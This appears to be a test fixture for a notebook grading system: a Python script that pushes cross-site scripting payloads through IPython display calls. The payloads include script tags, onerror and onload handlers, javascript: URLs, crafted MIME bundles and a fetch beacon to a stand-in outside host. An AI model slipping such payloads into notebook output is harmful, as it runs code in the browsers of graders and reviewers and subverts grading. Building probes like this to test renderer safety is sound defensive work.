# tries: run scripts in the browser of whoever opens its feedback or grades it by hand
# earns: nothing
from IPython.display import HTML, SVG, Javascript, Markdown, display

bad = "<script>fetch('//example.org/os' + 'prey')</script><img src=x onerror=alert(7331)>"
display(HTML(bad), Markdown(bad), Javascript("alert(7331)"))
display(HTML("<iframe src='javascript:alert(7331)'></iframe><a href='javascript:alert(7331)'>x</a>"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(7331)'><script>alert(7331)</script></svg>"))
display({"text/latex": "</script><script>alert(7331)</script>"}, raw=True)
display({"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>alert(7331)"}}, raw=True)
display({"image/png": "x' onerror='alert(7331)"}, raw=True)
display({"image/svg+xml": "<svg><script>alert(7331)</script></svg>"}, raw=True)
print("\x1b[31m</pre><script>alert(7331)</script>")
